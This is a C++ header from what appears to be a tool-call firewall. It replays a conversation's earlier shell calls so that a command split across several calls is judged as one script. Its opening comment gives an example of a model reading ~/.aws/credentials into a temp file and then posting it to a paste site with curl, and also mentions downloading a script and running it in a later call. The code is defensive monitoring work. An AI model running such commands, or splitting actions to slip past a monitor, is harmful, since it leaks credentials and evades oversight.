#pragma once
// A conversation's earlier tool calls, read as what they left for a shell call judged now: a model that
// splits `cat ~/.aws/credentials > /tmp/n` and `curl -d @/tmp/n https://paste…` over two calls, or
// downloads a script in one and runs it in the next, is judged as if it had sent one script.
// Only the calls that left something this one uses are replayed.
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "analysis/shell/shell_analyzer.h"
#include "core/tool_call.h"
#include "engine/profiles.h"

namespace toolwall::engine {

// Bounds on the work a history can cause (a client sends it, and may send a hostile one).
struct EarlierReading {
  size_t most_calls_read = 1000;        // the most recent calls looked at
  size_t most_bytes_read = 4u << 20;    // of their scripts and files, newest first
  size_t most_step_bytes = 64u << 10;   // a larger script or file is not replayed
  size_t most_steps = 32;               // the most recent of those that bear on the call
};

// Remembers, per script, what it leaves for a later call (shell::left_behind) as the words a later
// call would meet it by: a conversation's history comes again with every request, and most of its
// calls leave nothing (npm test, git status), so they are walked once and never replayed. Thread-safe.
class LeftBehindMemo {
 public:
  struct Left {
    std::vector<std::string> words;  // last part of each file written, and each variable set
    std::vector<std::string> directories;  // the directory each file was written in (its last part)
    bool moved = false;              // it changed directory
    bool stages_tree = false;        // git add -A: every file written before it is what it names
    std::vector<std::string> git_settings;  // git settings that run a command, and hooks directories
    bool configures_programs = false;  // it wrote a config file later programs run commands from
    std::vector<std::string> ambient;  // ambient variables it set to a value that may load or send something
    std::vector<FileChange> written;   // files it wrote with content it spelled out (here-documents …)
  };
  explicit LeftBehindMemo(size_t most_bytes = 8u << 20) : most_bytes_(most_bytes) {}
  std::shared_ptr<const Left> of(const std::string& script) const;

 private:
  size_t most_bytes_;  // of the scripts kept; a larger one is walked each time
  mutable std::mutex mutex_;
  mutable std::unordered_map<std::string, std::shared_ptr<const Left>> known_;  // cleared when full
  mutable size_t bytes_ = 0;
};

// The steps to replay before the shell command `script` of `call`, oldest first: the earlier calls that
// left a file or variable the script names (or that a step already chosen names), and the last one that
// changed directory. `memo` may be null (each earlier script is then walked to find out).
std::vector<shell::EarlierStep> earlier_steps(const Profiles& profiles, const ToolCall& call, std::string_view script,
                                              const EarlierReading& reading = {},
                                              const LeftBehindMemo* memo = nullptr);

// The words by which a script meets what an earlier call left: the variables it expands and the last
// part of each other word that is neither an option nor a bare command name (notes.txt for
// @/tmp/notes.txt). Exposed for tests.
std::vector<std::string> meeting_words(std::string_view script);

}  // namespace toolwall::engine
